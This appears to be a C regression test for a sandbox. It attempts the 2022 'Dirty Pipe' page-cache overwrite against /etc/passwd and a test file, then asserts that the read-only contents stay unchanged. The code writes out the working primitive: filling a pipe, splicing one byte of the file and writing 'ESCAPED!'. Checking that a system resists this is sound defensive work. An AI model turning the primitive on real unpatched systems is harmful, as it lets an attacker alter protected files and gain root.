// SPDX-License-Identifier: Apache-2.0
//
// Writing to files that may only be read, through a pipe that holds their pages, as in 2022.
#include <fcntl.h>
#include <string.h>

#include "attempt.h"

static void overwrite(const char* path) {
  char before[64] = "";
  char after[64] = "";
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  int ends[2];
  if (fd < 0 || pread(fd, before, sizeof before, 0) <= 0 || pipe2(ends, O_CLOEXEC) != 0) {
    harmless(path, -1);
    return;
  }
  // Every slot of the ring once full: the flag that must not survive is set on each.
  static char page[4096];
  const int capacity = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = capacity; left > 0; left -= (int)sizeof page) {
    if (write(ends[1], page, sizeof page) < 0) {
      break;
    }
  }
  for (int left = capacity; left > 0; left -= (int)sizeof page) {
    if (read(ends[0], page, sizeof page) < 0) {
      break;
    }
  }
  off_t offset = 0;
  harmless("splice", splice(fd, &offset, ends[1], NULL, 1, 0));
  harmless("write", write(ends[1], "ESCAPED!", 8));
  holds(pread(fd, after, sizeof after, 0) > 0 && memcmp(before, after, sizeof before) == 0, path,
        "has changed");
  REFUSED(splice(ends[0], NULL, fd, &offset, 1, 0));
  REFUSED(tee(ends[0], fd, 1, 0));
  close(fd);
}

int main(void) {
  overwrite("/attempts/try_setns");
  overwrite("/etc/passwd");
  return verdict();
}
